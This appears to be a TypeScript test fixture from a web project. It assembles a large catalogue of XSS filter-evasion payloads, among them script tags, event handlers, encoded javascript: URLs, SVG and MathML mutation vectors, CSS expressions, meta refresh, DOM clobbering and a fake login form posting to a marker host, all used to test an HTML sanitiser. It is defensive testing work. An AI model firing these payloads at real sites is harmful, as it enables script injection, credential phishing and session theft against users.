// Issue 17: hostile HTML as agencies (or a compromised platform) could send it, in the kinds of
// the OWASP XSS filter-evasion cheat sheet and the DOMPurify mutation-XSS reports. Every vector
// that ran would show itself: a dialog (alert), a request to MARKER_HOST, or MARKER_TEXT on the
// console. The tests inject each one through every agency-authored field that reaches a page.
import { PAGE_DATA_ID } from '../../sites/shell/src/lib/pageData.ts';

/** Nothing resolves this name: a request to it can only come from an injected vector. */
export const MARKER_HOST = 'xss.marker.invalid';
export const MARKER_URL = `http://${MARKER_HOST}/x`;
/** Logged by vectors that run without a dialog. */
export const MARKER_TEXT = 'XSS-EXECUTED';

export interface XssVector {
  kind: string;
  html: string;
}

const run = 'alert(1)';
const log = `console.log('${MARKER_TEXT}')`;

/** `javascript:` written the ways filters miss it (entities, whitespace, case, control chars). */
const JS_URLS = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `jav\tascript:${run}`,
  `jav&#x09;ascript:${run}`,
  `jav&#x0A;ascript:${run}`,
  `jav&#x0D;ascript:${run}`,
  `&#14; javascript:${run}`,
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29',
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `java&NewLine;script:${run}`,
  `\x01javascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
];

/** Where a URL can carry code: links, frames, forms, embeds, media, SVG and MathML. */
const URL_SLOTS = [
  (url: string) => `<a href="${url}">link</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>go</button></form>`,
  (url: string) => `<form><button formaction="${url}">go</button></form>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<img src="${url}">`,
];

const EXTRA_URL_SLOTS = [
  `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">X</text></a></svg>`,
  `<svg><a href="javascript:${run}"><text x="20" y="20">X</text></a></svg>`,
  `<math href="javascript:${run}">X</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">X</maction></math>`,
  `<area href="javascript:${run}">`,
  `<map><area shape="rect" coords="0,0,100,100" href="javascript:${run}"></map>`,
  `<base href="javascript:${run}//">`,
  `<input type="image" src="javascript:${run}">`,
  `<video poster="javascript:${run}"></video>`,
  `<isindex action="javascript:${run}" type="image">`,
  `<a href="javascript:void(0)" onclick="${run}">click</a>`,
  `<link rel="import" href="javascript:${run}">`,
  `<table background="javascript:${run}"><tr><td>x</td></tr></table>`,
  `<svg><set attributeName="href" to="javascript:${run}"/><a><text y="20">X</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${run}"/><a><text y="20">X</text></a></svg>`,
];

const SCRIPTS = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="${MARKER_URL}.js"></script>`,
  `<SCRIPT SRC=${MARKER_URL}.js></SCRIPT>`,
  `<script/xss src="${MARKER_URL}.js"></script>`,
  `<<SCRIPT>${run};//\\<</SCRIPT>`,
  `<script>alert(String.fromCharCode(88,83,83))</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type="module">${log}</script>`,
  `<script>/*</script>*/${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<script\x20type="text/javascript">${run}</script>`,
  `<script\x0Dtype="text/javascript">${run}</script>`,
  `<script ~~~>${run}</script ~~~>`,
  `<ScRiPt>${log}</sCrIpT>`,
];

const HANDLERS = [
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${log}">`,
  `<IMG SRC=/ onerror="${run}"></img>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=1>`,
  `<img """><script>${run}</script>">`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<div onmouseover="${run}">hover</div>`,
  `<a onmouseover="${run}">hover</a>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<keygen autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<video src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe onload=${run}></iframe>`,
  `<object onerror=${run}></object>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<table onmouseover=${run}><tr><td>x</td></tr></table>`,
  `<td background="x" onmouseover=${run}>x</td>`,
  `<button onclick=${run}>x</button>`,
  `<div onpointerenter=${run}>x</div>`,
  `<div style="animation-name:x" onanimationstart=${run}>x</div>`,
  `<p ondragstart=${run} draggable=true>x</p>`,
  `<span onfocusin=${run} tabindex=1 autofocus>x</span>`,
  `<frameset onload=${run}>`,
  `<image src=x onerror=${run}>`,
  `<img src=x onerror\x0B=${run}>`,
  `<img src=x onerror\x00=${run}>`,
  `<img src=x OnErRoR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=\`x\`onerror=${run}>`,
  `<x onclick=${run}>click</x>`,
];

const SVG_AND_MATH = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"></script></svg>`,
  `<svg><script xlink:href="${MARKER_URL}.js"></script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><image href="${MARKER_URL}.png"></image></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><title><img src=x onerror=${run}></title></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math><mi xlink:href="javascript:${run}">X</mi></math>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><p><style><img src=x onerror=${run}></style></p></svg>`,
];

const FRAMES_AND_EMBEDS = [
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
  `<iframe src="${MARKER_URL}"></iframe>`,
  `<object data="${MARKER_URL}"></object>`,
  `<object type="text/x-scriptlet" data="${MARKER_URL}"></object>`,
  `<embed src="${MARKER_URL}.swf">`,
  `<applet code="x" codebase="${MARKER_URL}"></applet>`,
  `<portal src="${MARKER_URL}"></portal>`,
];

const CSS = [
  `<div style="background-image:url(javascript:${run})">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div style="behavior:url(${MARKER_URL}.htc)">x</div>`,
  `<div style="background:url('${MARKER_URL}/bg.png')">x</div>`,
  `<style>@import '${MARKER_URL}.css';</style>`,
  `<style>body{background:url("${MARKER_URL}/bg.png")}</style>`,
  `<link rel="stylesheet" href="${MARKER_URL}.css">`,
  `<style>@import url("javascript:${run}");</style>`,
  `<div style="x:\\65xpression(${run})">x</div>`,
  `<div style="-moz-binding:url(${MARKER_URL}.xml#xss)">x</div>`,
  `<style>li{list-style-image:url("javascript:${run}")}</style><ul><li>x</li></ul>`,
  `<img style="xss:expr/*XSS*/ession(${run})">`,
];

const BASE_META_FORMS = [
  `<base href="${MARKER_URL}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0; url=${MARKER_URL}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
  `<meta http-equiv="Set-Cookie" content="wl_access_token=stolen">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="${MARKER_URL}" method="post"><input name="password" type="password"><button>Log in</button></form>`,
  // DOM clobbering of the page's data block, by the id its islands read.
  `<form id="${PAGE_DATA_ID}"><input name="textContent" value="{}"></form>`,
  `<input type="image" src=x onerror=${run}>`,
  `<input type="hidden" accesskey="X" onclick=${run}>`,
  `<button form="x" formaction="${MARKER_URL}">x</button>`,
  `<a href="${MARKER_URL}" ping="${MARKER_URL}/ping">link</a>`,
];

const TEMPLATES_AND_MUTATION = [
  `<template><script>${run}</script></template>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
  `<title><img src=x onerror=${run}></title>`,
  `<textarea><img src=x onerror=${run}></textarea>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  `<a href="&#x2F;&#x2F;${MARKER_HOST}">x</a>`,
  `<a id="</a><img src=x onerror=${run}>">x</a>`,
  `<div id="1"><div id="2"><img src=x onerror=${run}></div></div>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<table><caption><svg><style><img src=x onerror=${run}>`,
  `<svg><desc><table><tr><td><img src=x onerror=${run}></td></tr></table></desc></svg>`,
  `<img src="x\` onerror=${run}\`>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<div data-x="{{${run}}}">x</div>`,
  `\u2028\u2029<script>${run}</script>`,
  `<img src=x onerror=${run}>\u0000`,
  `<IMG SRC="jav&#x09;ascript:${run};">`,
  `<BGSOUND SRC="javascript:${run};">`,
  `<LAYER SRC="${MARKER_URL}"></LAYER>`,
  `<XSS STYLE="behavior: url(${MARKER_URL}.htc);">`,
  `<DIV STYLE="background-image: url(&#1;javascript:${run})">x</DIV>`,
  `<IMG DYNSRC="javascript:${run}">`,
  `<IMG LOWSRC="javascript:${run}">`,
  `<img srcset="${MARKER_URL}.png 1x">`,
  `<picture><source srcset="${MARKER_URL}.png"><img src="/x.png" alt="x"></picture>`,
  `<a href="/ok" target="_top">ok</a><a href="//${MARKER_HOST}/x">x</a>`,
];

/** A piece of agency HTML a sanitiser must leave intact. */
export const BENIGN_HTML =
  '<h2>Our promise</h2><p><strong>Bold</strong>, <em>emphasis</em> and a ' +
  '<a href="https://example.com/terms">terms link</a>.</p><ul><li>First</li><li>Second</li></ul>';

export const XSS_VECTORS: readonly XssVector[] = [
  ...SCRIPTS.map((html) => ({ kind: 'script', html })),
  ...HANDLERS.map((html) => ({ kind: 'event handler', html })),
  ...URL_SLOTS.flatMap((slot) => JS_URLS.map((url) => ({ kind: 'script URL', html: slot(url) }))),
  ...EXTRA_URL_SLOTS.map((html) => ({ kind: 'script URL', html })),
  ...SVG_AND_MATH.map((html) => ({ kind: 'SVG and MathML', html })),
  ...FRAMES_AND_EMBEDS.map((html) => ({ kind: 'frames and embeds', html })),
  ...CSS.map((html) => ({ kind: 'CSS', html })),
  ...BASE_META_FORMS.map((html) => ({ kind: 'base, meta and forms', html })),
  ...TEMPLATES_AND_MUTATION.map((html) => ({ kind: 'template and mutation', html })),
];
